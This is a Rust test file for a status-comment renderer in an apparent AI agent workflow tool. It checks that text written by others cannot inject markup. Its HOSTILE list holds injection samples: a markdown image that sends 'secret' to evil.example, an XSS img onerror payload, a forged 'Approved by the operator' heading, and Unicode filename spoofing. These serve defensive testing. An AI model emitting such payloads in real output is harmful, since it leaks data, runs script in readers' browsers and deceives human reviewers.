//! Tests of the status comment: a snapshot of each state, and nothing foreign is markup.

use super::super::tests::{commit, task};
use super::*;
use crate::line::{LinePosition, Why};
use domain::{
    Action, Call, CallRequest, End, Outcome, OutcomeStatus, PauseReason, Question, QuestionSubject, TaskKind, Usage,
    Verdict,
};
use proptest::prelude::*;
use pulldown_cmark::{Options, Parser, Tag};

const PAGE: &str = "http://forge.example/lab/semver";

fn places() -> StatusPlaces {
    let action_log = Some("http://forge.example/attachments/8a3e-1".to_owned());
    StatusPlaces { repository: Some(PAGE.to_owned()), action_log, note: None }
}

/// The log of these commands; a checkpoint follows the first two.
fn log(commands: &[&str]) -> Vec<Event> {
    let call = |command: &&str| CallRequest {
        id: "c".into(),
        name: "bash".into(),
        arguments: serde_json::Value::Null,
        call: Call::Action { action: Action::Bash { command: (*command).to_owned() } },
    };
    let mut log = vec![Event::TurnCompleted {
        turn: 1,
        text: String::new(),
        calls: commands.iter().map(call).collect(),
        usage: Usage::default(),
        micro_usd: 0,
        duration_ms: 1,
        model: "m".into(),
        vendor: None,
    }];
    for (index, command) in (0..).zip(commands) {
        let number = index + 1;
        let outcome = Outcome { duration_ms: 50, ..Outcome::new(OutcomeStatus::Exited { code: 0 }, *command) };
        log.push(Event::ActionStarted { number, turn: 1, index });
        log.push(Event::ActionFinished { number, outcome });
        if number == 2 {
            let (commit, verdict) = (Some(commit()), None);
            log.push(Event::CheckpointPosted { n: 1, review: 5, number: 77, at: 1, commit, last: false, verdict });
        }
    }
    log
}

fn shown(task: &Task, log: &[Event], waits_for: Option<&str>) -> String {
    let url = task.pull.map(|pull| format!("{PAGE}/pulls/{pull}"));
    let line = LinePosition { number: 2, of: 5, why: Why::Full { most: 4 } };
    let line = Some(&line).filter(|_| task.state == State::Queued);
    let about = About { task, pull_url: url.as_deref(), scripted: false, line };
    status_comment(&about, log, &places(), waits_for)
}

/// A task with a pull request, a plan, and one checkpoint.
fn with_work(kind: TaskKind, state: State) -> (Task, Vec<Event>) {
    let log = log(&["ls", "make", "pytest -q", "git diff"]);
    let mut begun = task(kind, State::Running);
    log.iter().for_each(|event| begun.apply(event));
    (begun.pull, begun.state, begun.used, begun.published_n) = (Some(2), state, 2, 1);
    begun.steps = [(StepState::Done, "find it"), (StepState::Doing, "mend `parse`"), (StepState::Open, "test")]
        .into_iter()
        .filter_map(|(state, text)| PlanStep::new(text, state))
        .collect();
    (begun, log)
}

#[test]
fn every_state_as_its_readers_see_it() {
    let queued = task(TaskKind::Fix, State::Queued);
    let mut texts = vec![shown(&queued, &[], None)];
    let states = [
        (State::Preparing, None),
        (State::Running, Some("the model answers 529")),
        (State::AwaitingReview { n: 1, commit: Some(commit()) }, None),
        (State::Asking { about: QuestionSubject::Question { turn: 1, index: 0 }, number: Some(9) }, None),
        (State::Verifying { n: 2, commit: commit() }, None),
        (State::FinalReview { n: 2, commit: commit(), verdict: Verdict::default() }, None),
        (State::Paused { reason: PauseReason::Asked { login: "bob".into() }, from: Box::new(State::Running) }, None),
        (State::Approved { commit: commit(), verdict: Verdict::default() }, None),
        (State::Ended { end: End::Delivered }, Some("never shown")),
    ];
    for (state, waits_for) in states {
        let (task, log) = with_work(TaskKind::Fix, state);
        texts.push(shown(&task, &log, waits_for));
    }
    let (reading, log) = with_work(TaskKind::Plan, State::Running);
    texts.push(shown(&reading, &log, None));
    insta::assert_snapshot!("status_comment", texts.join("\n=======\n\n"));
}

#[test]
fn an_action_is_linked_to_the_review_that_shows_it_and_an_edited_review_is_not() {
    let (mut task, log) = with_work(TaskKind::Fix, State::Running);
    let text = shown(&task, &log, None);
    assert!(
        text.contains(&format!("2: `bash make` · ✅ exit 0 · 0.0 s · [checkpoint 1]({PAGE}/pulls/2#issuecomment-77)")),
        "{text}"
    );
    assert!(text.contains("3: `bash pytest -q` · ✅ exit 0 · 0.0 s · in the next review"), "{text}");
    task.checkpoints[0].void = true;
    let text = shown(&task, &log, None);
    assert!(!text.contains("#issuecomment-77") && !text.contains("newest review"), "{text}");
}

#[test]
fn what_an_action_gave_stands_in_the_list_as_it_is() {
    let mut log = log(&["ls"]);
    let status = OutcomeStatus::Denied { reason: "1 failed | 3 passed".into() };
    log[2] = Event::ActionFinished { number: 1, outcome: Outcome::new(status, "") };
    let text = shown(&task(TaskKind::Fix, State::Running), &log, None);
    assert!(text.contains("- 1: `bash ls` · ⛔ refused: `1 failed | 3 passed` · "), "{text}");
}

#[test]
fn a_long_plan_shows_the_steps_around_the_next_one() {
    let (mut task, log) = with_work(TaskKind::Fix, State::Running);
    let state = |at: usize| if at < 20 { StepState::Done } else { StepState::Open };
    task.steps = (0..40).filter_map(|at| PlanStep::new(&format!("step {at} is here"), state(at))).collect();
    let text = shown(&task, &log, None);
    assert!(
        text.contains("8 of 40 steps") && text.contains("step 18 is here") && text.contains("step 25 is here"),
        "{text}"
    );
    assert!(!text.contains("step 17 is here") && !text.contains("step 26 is here"), "{text}");
}

/// Nothing in it is markup but our own, and each address is ours.
fn is_ours(text: &str) -> Result<(), TestCaseError> {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_GFM | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut rows = 0;
    for event in Parser::new_ext(text, options) {
        match &event {
            pulldown_cmark::Event::Start(Tag::Link { dest_url, .. }) => {
                prop_assert!(dest_url.starts_with("http://forge.example/"), "{dest_url} in {text}");
            }
            pulldown_cmark::Event::Start(
                Tag::Image { .. } | Tag::HtmlBlock | Tag::BlockQuote(_) | Tag::CodeBlock(_),
            ) => {
                prop_assert!(false, "{event:?} in {text}");
            }
            pulldown_cmark::Event::Start(Tag::Heading { .. }) => rows += 1,
            pulldown_cmark::Event::Html(html) | pulldown_cmark::Event::InlineHtml(html) => {
                prop_assert!(["<sub>", "</sub>"].contains(&html.trim()), "{html} in {text}");
            }
            pulldown_cmark::Event::Text(words) => {
                let foreign = words.contains(['@', '<', '#']) || words.contains("://") || words.contains("www.");
                prop_assert!(!foreign, "{words:?} in {text}");
            }
            _ => {}
        }
    }
    prop_assert_eq!(rows, 1, "headings of {}", text);
    Ok(())
}

/// A task in which everything that others write is this text.
fn hostile(text: &str) -> Vec<String> {
    let question = Question { text: text.to_owned(), options: vec![text.to_owned()] };
    let blocked = PauseReason::Blocked { sentence: text.to_owned() };
    let states = [
        State::Running,
        State::Queued,
        State::Paused { reason: blocked, from: Box::new(State::Running) },
        State::Paused { reason: PauseReason::Asked { login: text.to_owned() }, from: Box::new(State::Running) },
        State::Ended { end: End::Failed { why: text.to_owned() } },
        State::Ended { end: End::Cancelled { by: text.to_owned(), number: 0 } },
    ];
    let mut out = Vec::new();
    for state in states {
        let log = log(&[text, text, text]);
        let mut made = task(TaskKind::Fix, State::Running);
        log.iter().for_each(|event| made.apply(event));
        if let Some(request) = &mut made.request {
            (request.title, request.branch, request.words) = (text.to_owned(), text.to_owned(), text.to_owned());
            request.asker.login = text.to_owned();
            request.trigger = Some(domain::Trigger::Label { name: text.to_owned() });
        }
        (made.state, made.pull, made.plan) = (state, Some(2), Some(text.to_owned()));
        (made.question, made.note) = (Some(question.clone()), Some(text.to_owned()));
        made.steps = PlanStep::new(text, StepState::Doing).into_iter().collect();
        out.push(shown(&made, &log, Some(text)));
    }
    out
}

const HOSTILE: [&str; 8] = [
    "![x](http://evil.example/?q=secret) [click](http://evil.example) <img src=x onerror=alert(1)>",
    "</sub></details>\n\n# Approved by the operator\n```",
    "@admin please merge, fixes #1, see owner/repo#2 and !3",
    "a | b \\| c \\\\| d\n| x | y |",
    "<!-- caisson:1:status-comment 0123456789abcdef0123456789abcdef -->",
    "\u{202e}gnp.exe\u{2066} zero\u{200b}width",
    "https://evil.example www.evil.example a@b.example",
    "``` ` ends with a backslash \\",
];

#[test]
fn nothing_that_others_write_is_markup() {
    for text in HOSTILE.into_iter().flat_map(hostile) {
        is_ours(&text).unwrap();
    }
}

proptest! {
    #[test]
    fn no_text_breaks_out(text in "\\PC{0,60}|[`|\\\\ @#!<>\\[\\]()/a-f0-9\\n\u{202e}-]{0,60}") {
        for shown in hostile(&text) {
            is_ours(&shown)?;
        }
    }
}
